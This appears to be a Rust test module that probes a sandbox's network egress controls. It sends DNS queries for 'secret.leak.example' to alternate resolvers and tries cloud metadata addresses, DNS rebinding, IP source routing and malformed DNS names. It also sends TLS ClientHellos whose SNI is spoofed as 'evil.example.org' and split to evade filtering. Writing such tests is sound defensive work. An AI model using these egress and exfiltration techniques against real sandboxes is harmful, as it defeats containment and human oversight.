//! Network access by name: D42 to D47. Outside, the resolver of the rig is asked; inside, the one that the sandbox names.

use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

use crate::kernel::call;
use crate::network::internet;
use crate::{Outcome, Stop, attempt};

const OUTER_RESOLVER: &str = "203.0.113.53:5354";
const INNER_RESOLVER: &str = "198.18.0.1:53";
const INNER_PORT: u16 = 8081;
const TLS_PORT: u16 = 8443;
const NETWORK_PORT: u16 = 8082;
const PATIENCE: Duration = Duration::from_secs(3);

pub fn run(id: &str) -> bool {
    match id {
        "D42" => names_and_addresses(),
        "D43" => reach(&["metadata", "alibaba", "mapped-metadata"]),
        "D44" => reach(&["loopback", "loopback6", "mapped", "private"]),
        "D45" => reach(&["rebinding", "rebinding", "rebinding", "two"]),
        "D46" => questions(),
        "D47" => server_names(),
        _ => return false,
    }
    true
}

fn names_and_addresses() {
    let secret = question(&[b"secret", b"leak", b"example"], 1);
    attempt("a question by UDP", || answered(&ask(resolver(), &secret)?));
    attempt("a question by TCP", || answered(&ask_by_tcp(resolver(), &secret)?));
    attempt("a question to another resolver", || answered(&ask(OUTER_RESOLVER, &secret)?));
    attempt("a question to another resolver by TCP", || answered(&ask_by_tcp(OUTER_RESOLVER, &secret)?));
    attempt("another port of an allowed name", || connect(resolve(&[b"api", b"example", b"com"])?, 7001));
    attempt("another port of an allowed name, which a rule for a network has", || {
        connect(resolve(&[b"api", b"example", b"com"])?, NETWORK_PORT)
    });
    for address in ["203.0.113.10", "10.0.0.5", "::ffff:203.0.113.10"] {
        attempt(address, || connect(address.parse().map_err(|_| libc::EINVAL)?, 7001));
    }
    attempt("a source route", || {
        let (family, bytes) = internet("203.0.113.10:7001")?;
        let socket = call(libc::SYS_socket, &[family, 1, 0])?;
        let route = [131_u8, 7, 4, 203, 0, 113, 10, 0];
        call(libc::SYS_setsockopt, &[socket, 0, libc::IP_OPTIONS as usize, route.as_ptr() as usize, route.len()])?;
        call(libc::SYS_connect, &[socket, bytes.as_ptr() as usize, bytes.len()])?;
        Ok("connected".into())
    });
}

/// Connects to names whose owner decides where they lead.
fn reach(names: &[&str]) {
    for name in names {
        attempt(name, || connect(resolve(&[name.as_bytes(), b"example", b"org"])?, INNER_PORT));
    }
}

/// Questions whose names are not what they seem.
fn questions() {
    let long = [b'x'; 63];
    let odd: [(&str, &[&[u8]]); 8] = [
        ("a name that ends with an allowed one and more", &[b"api", b"example", b"com", b"leak", b"example"]),
        ("a dot in a label", &[b"api.example", b"com"]),
        ("a NUL in a label", &[b"api\0", b"example", b"com"]),
        ("a blank in a label", &[b"api ", b"example", b"com"]),
        ("a NUL at the end", &[b"api", b"example", b"com\0"]),
        ("a long name", &[&long, &long, &long, b"leak", b"example"]),
        ("bytes of no character set", &[b"\xff\xfe", b"leak", b"example"]),
        ("the name of an address", &[b"10", b"0", b"113", b"203", b"in-addr", b"arpa"]),
    ];
    for (what, labels) in odd {
        attempt(what, || answered(&ask(resolver(), &question(labels, 1))?));
        attempt(&format!("{what}, then a connection"), || connect(resolve(labels)?, TLS_PORT));
    }
    attempt("two questions", || {
        let mut packet = question(&[b"api", b"example", b"com"], 1);
        packet[5] = 2;
        packet.extend(&question(&[b"secret", b"leak", b"example"], 1)[12..]);
        answered(&ask(resolver(), &packet)?)
    });
    attempt("many questions", || {
        for number in 0..2000 {
            let _ = ask_for(resolver(), &question(&[format!("n{number}").as_bytes(), b"leak", b"example"], 1), 20);
        }
        Err(Stop::Absent("sent; the resolver tells".into()))
    });
    attempt("other types", || {
        for kind in [2, 5, 6, 12, 15, 16, 28, 33, 65, 255] {
            let _ = ask_for(resolver(), &question(&[b"secret", b"leak", b"example"], kind), 200);
        }
        Err(Stop::Absent("sent; the resolver tells".into()))
    });
}

/// Beginnings of TLS for another host, to an allowed one.
fn server_names() {
    let evil = hello(Some(b"evil.example.org"));
    let halves = evil.len() / 2;
    let two_records = [&record(&evil[5..halves])[..], &record(&evil[halves..])].concat();
    let ways: [(&str, Vec<u8>, usize); 7] = [
        ("another name", evil.clone(), usize::MAX),
        ("no name", hello(None), usize::MAX),
        ("an address", hello(Some(b"203.0.113.10")), usize::MAX),
        ("a longer name", hello(Some(b"api.example.com.evil.example.org")), usize::MAX),
        ("a NUL in the name", hello(Some(b"api.example.com\0.evil.example.org")), usize::MAX),
        ("byte by byte", evil, 1),
        ("in two records", two_records, usize::MAX),
    ];
    for (what, bytes, part) in ways {
        attempt(what, || {
            let address = resolve(&[b"api", b"example", b"com"])?;
            let mut stream = open(address, TLS_PORT)?;
            stream.set_nodelay(true).map_err(number)?;
            for part in bytes.chunks(part.min(bytes.len())) {
                stream.write_all(part).map_err(number)?;
            }
            let mut one = [0];
            stream.read_exact(&mut one).map_err(number)?;
            Ok("answered".into())
        });
    }
}

fn resolver() -> &'static str {
    let named = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default().contains("198.18.0.1");
    if named { INNER_RESOLVER } else { OUTER_RESOLVER }
}

fn number(error: std::io::Error) -> i32 {
    match error.kind() {
        std::io::ErrorKind::UnexpectedEof => libc::ECONNRESET,
        _ => error.raw_os_error().unwrap_or(libc::EIO),
    }
}

fn question(labels: &[&[u8]], kind: u8) -> Vec<u8> {
    let mut packet = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        packet.push(label.len() as u8);
        packet.extend_from_slice(label);
    }
    packet.extend([0, 0, kind, 0, 1]);
    packet
}

fn ask(server: &str, packet: &[u8]) -> Result<Vec<u8>, i32> {
    ask_for(server, packet, PATIENCE.as_millis() as u64)
}

fn ask_for(server: &str, packet: &[u8], milliseconds: u64) -> Result<Vec<u8>, i32> {
    let socket = UdpSocket::bind("0.0.0.0:0").map_err(number)?;
    socket.set_read_timeout(Some(Duration::from_millis(milliseconds))).map_err(number)?;
    socket.connect(server).map_err(number)?;
    socket.send(packet).map_err(number)?;
    let mut reply = vec![0; 4096];
    let length = socket.recv(&mut reply).map_err(number)?;
    reply.truncate(length);
    Ok(reply)
}

fn ask_by_tcp(server: &str, packet: &[u8]) -> Result<Vec<u8>, i32> {
    let server: SocketAddr = server.parse().map_err(|_| libc::EINVAL)?;
    let mut stream = open(server.ip(), server.port())?;
    stream.write_all(&[&(packet.len() as u16).to_be_bytes(), packet].concat()).map_err(number)?;
    let mut length = [0; 2];
    stream.read_exact(&mut length).map_err(number)?;
    let mut reply = vec![0; u16::from_be_bytes(length).into()];
    stream.read_exact(&mut reply).map_err(number)?;
    Ok(reply)
}

fn answered(reply: &[u8]) -> Outcome {
    match reply {
        [_, _, _, code, _, _, high, low, ..] if code & 15 == 0 && (*high, *low) != (0, 0) => Ok("answered".into()),
        _ => Err(libc::ENOENT.into()),
    }
}

/// The last address of an answer to a question for either kind.
fn resolve(labels: &[&[u8]]) -> Result<IpAddr, i32> {
    let four = ask(resolver(), &question(labels, 1))?;
    if answered(&four).is_ok() {
        let bytes: [u8; 4] = four[four.len() - 4..].try_into().map_err(|_| libc::EBADMSG)?;
        return Ok(bytes.into());
    }
    let six = ask(resolver(), &question(labels, 28))?;
    answered(&six).map_err(|_| libc::ENOENT)?;
    let bytes: [u8; 16] = six[six.len() - 16..].try_into().map_err(|_| libc::EBADMSG)?;
    Ok(Ipv6Addr::from(bytes).into())
}

fn open(address: IpAddr, port: u16) -> Result<TcpStream, i32> {
    let stream = TcpStream::connect_timeout(&SocketAddr::new(address, port), PATIENCE).map_err(number)?;
    stream.set_read_timeout(Some(PATIENCE)).map_err(number)?;
    Ok(stream)
}

/// Connects, and waits for a word, because the gateway accepts before it dials.
fn connect(address: IpAddr, port: u16) -> Outcome {
    let mut stream = open(address, port)?;
    if [INNER_PORT, NETWORK_PORT].contains(&port) {
        let mut one = [0];
        stream.read_exact(&mut one).map_err(number)?;
    }
    stream.write_all(b"leak").map_err(number)?;
    Ok("connected".into())
}

fn record(bytes: &[u8]) -> Vec<u8> {
    [&[22, 3, 1][..], &(bytes.len() as u16).to_be_bytes(), bytes].concat()
}

/// A ClientHello in one record.
fn hello(name: Option<&[u8]>) -> Vec<u8> {
    let short = |bytes: &[u8]| [&(bytes.len() as u16).to_be_bytes()[..], bytes].concat();
    let names = name.map(|name| short(&[&[0][..], &short(name)].concat())).unwrap_or_default();
    let extension = name.map(|_| [&[0, 0][..], &short(&names)].concat()).unwrap_or_default();
    let body = [&[3, 3][..], &[7; 32], &[0], &short(&[0x13, 1]), &[1, 0], &short(&extension)].concat();
    let length = (body.len() as u32).to_be_bytes();
    record(&[&[1][..], &length[1..], &body].concat())
}
